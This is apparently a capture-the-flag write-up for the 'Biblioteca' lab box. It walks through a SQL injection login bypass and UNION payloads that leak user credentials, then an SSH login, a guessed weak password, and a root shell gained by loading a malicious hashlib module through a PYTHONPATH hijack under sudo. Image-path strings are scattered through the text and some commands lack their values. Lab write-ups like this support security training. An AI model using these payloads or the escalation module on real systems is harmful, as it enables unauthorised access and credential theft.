THM: Biblioteca is a medium difficulty Linux box that starts with a classic SQL injection vulnerability. We’ll use several UNION attacks to enumerate the database and eventually leak some user credentials. We’ll use those to SSH in to the box and pivot to another user account by simply guessing a weak password. Finally, we’ll escalate to a root shell by hijacking the PYTHONPATH environment variable when running a python script via sudo.


└─$ sudo rustscan -a -- -sV -oA nmap1                                                        130 ⨯

22/tcp   open  ssh     syn-ack ttl 61 OpenSSH 8.2p1 Ubuntu 4ubuntu0.4 (Ubuntu Linux; protocol 2.0)
8000/tcp open  http    syn-ack ttl 61 Werkzeug httpd 2.0.2 (Python 3.8.10)
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

The only service we can see besides SSH is a Werkzeug HTTP server on port 8000 which means we’re going to be dealing with a python webapp.

Checking it out in a browser we see a basic login page, and an option to sign up for an account.

SQL Injection

With a simple admin' OR 1=1 # SQLi payload as the username we are able to bypass authentication.

There isn’t much of anything to see on the page besides a welcome message for “smokey”:

SQLi Authentication Bypass

That name smokey is likely coming from the same database query that runs during the authentication process, so we can try leaking data with a UNION SQLi attack.

First we need to figure out howmany columns the query is selecting so we can match that with our union.

This requires iterating through a series of tests, each one selecting an additional null value until the query no longer breaks.

Our starting payload (URL encoded) will be admin'+UNION+SELECT+null--+.

SQLi attempt to find the number of columns for a successful UNION attack

It causes an error on the server because we have not balanced the number of columns being selected in our union with the rest of the query.

On our 4th attempt we get a successful response, so now we’ve confirmed 4 columns are required.

UNION attack POC

Notice the page says “Hi None!!” now. The “None” is from one of our null values, so now we can iterate through each null and replace it with a string to see which column we can use for leaking data.

With admin'+UNION+SELECT+null,'6rian',null,null--+ we see “Hi 6rian!!” in the response.

Now the fun part!

If we select database() in the second column we’ll discover what database we’re currently in which is: website.We can query information_schema.tables to see what tables are in our database. The INFORMATION_SCHEMA is a special database that is present in every MySQL database, and it contains all kinds of information about the MySQL instance itself, including what schemas and tables are available.


This tells us the only table in the website schema is users.

Next we can query information_schema.columns to get a list of columns in the users table.


And we get “Hi email,id,password,username!!” in the response. We now have the information we need to be able to leak all user data.

First let’s get a list of usernames.


And it looks like “smokey” isthe only user account. What’s their password?


Leaking user data via UNION attack

User Flag

Now that we have found some creds, let’s see if we can use them to get a shell.

└─$ ssh smokey@
The authenticity of host ' (' can't be established.
ECDSA key fingerprint is SHA256:pav/Y8tQ2pgyKvZZspHIQ9oKqEVya+Cmvr8iztfpjxg.
Are you sure you want to continue connecting (yes/no/[fingerprint])? yes
Warning: Permanently added '' (ECDSA) to the list ofknown hosts.
smokey@'s password:
Welcome to Ubuntu 20.04.4 LTS (GNU/Linux 5.4.0-91-generic x86_64)

 * Documentation:
 * Management:
 * Support:

  System information as of Sat 13 Aug 2022 12:54:17 PM UTC

  System load:  0.09              Processes:             114
  Usage of /:   61.3% of 9.78GB   Users logged in:       0
  Memory usage: 60%               IPv4 address for eth0:
  Swap usage:   0%

8 updates can be applied immediately.
8 of these updates are standard security updates.
To see these additional updates run: apt list --upgradable

The list of available updates is more than a week old.
To check for new updates run: sudo apt update

Last login: Tue Dec  7 03:21:42 2021 from

smokey@biblioteca:~$ id; uname -a;
uid=1000(smokey) gid=1000(smokey) groups=1000(smokey)
Linux biblioteca 5.4.0-91-generic #102-Ubuntu SMP Fri Nov 5 16:31:28 UTC 2021 x86_64 x86_64 x86_64 GNU/Linux

And we’re in!

There’s no flag in smokey’s home directory so let’s see what other users are on the box.

smokey@biblioteca:~$ cat /etc/passwd | grep sh$

Checking hazel’s home directory we’ll find the user flag but are unable to read it. sudo -l shows smokey has no sudo privileges either.

After lots of additional enumeration I wasn’t finding a path to get a shell as hazel, so I looked at the hint whichsimply said: “Weakpassword”. I wasn’t sure what to make of that at first, but decided to try su hazel and use the username as the password, and it worked..

smokey@biblioteca:/tmp$ su hazel
hazel@biblioteca:/tmp$ cd
hazel@biblioteca:~$ wc -c user.txt
45 user.txt

Privilege Escalation

Besides the user flag there is a script in hazel’s home directory which is owned by root, but we have read permission.

import hashlib

def hashing(passw):

    md5 = hashlib.md5(passw.encode())

    print("Your MD5 hash is: ", end ="")

    sha256 = hashlib.sha256(passw.encode())

    print("Your SHA256 hash is: ", end ="")

    sha1 = hashlib.sha1(passw.encode())

    print("Your SHA1 hash is: ", end ="")

def main():
    passw = input("Enter a password to hash: ")if __name__ == "__main__":

Hazel has permission to run this script as root.

hazel@biblioteca:~$ sudo -l
Matching Defaults entries for hazel on biblioteca:
    env_reset, mail_badpass,

User hazel may run the following commands on biblioteca:
    (root) SETENV: NOPASSWD: /usr/bin/python3 /home/hazel/

What’s also interesting here is the SETENV: declaration. It allows us to set environment variables while executing the command as root.

With this privilege, we can hijack the PYTHONPATH environment variable to load our own malicious version of the hashlib library that the script is importing.

Let’s create our hijack module at /dev/shm/ with the following code:

import os

def md5(s):
    os.system('/bin/bash -p')
    return smd5() is the first function from the real hashlib the hasher script is calling so by defining our own function by the same name we are able to control what code gets executed.

We’ll set PYTHONPATH=/dev/shm when running the sudo command so python will look in the /dev/shm directory when trying to load libraries. When it finds our malicious hashlib library it will load that, and then when the hashlib.md5() function is executed, we’ll have a root shell!

hazel@biblioteca:/dev/shm$ sudoPYTHONPATH=/dev/shm /usr/bin/python3 /home/hazel/
Enter a password to hash: asdf

root@biblioteca:/dev/shm# id
uid=0(root) gid=0(root) groups=0(root)

root@biblioteca:/dev/shm# cd /root && ls -la
total 32
drwx---  5 root root 4096 Mar  2 03:02 .
drwxr-xr-x 19 root root 4096 Dec  7  2021 ..
lrwxrwxrwx  1 root root    9 Dec  7  2021 .bash_history -> /dev/null
-rw-r--r--  1 root root 3106 Dec  5  2019 .bashrc
drwx---  3 root root 4096 Dec  7  2021 .cache
lrwxrwxrwx  1 root root    9 Dec  7  2021 .mysql_history -> /dev/null
-rw-r--r--  1 root root  161 Dec  5  2019 .profile
-rw-r-----  1 root root   31 Mar  2 03:01 root.txt
drwxr-xr-x  3 root root 4096 Dec  7  2021 snap
drwx---  2 root root 4096 Dec  7  2021 .ssh
-rw---  1 root root    0 Mar  2 03:02 .viminforoot@biblioteca:~# wc -croot.txt
31 root.txt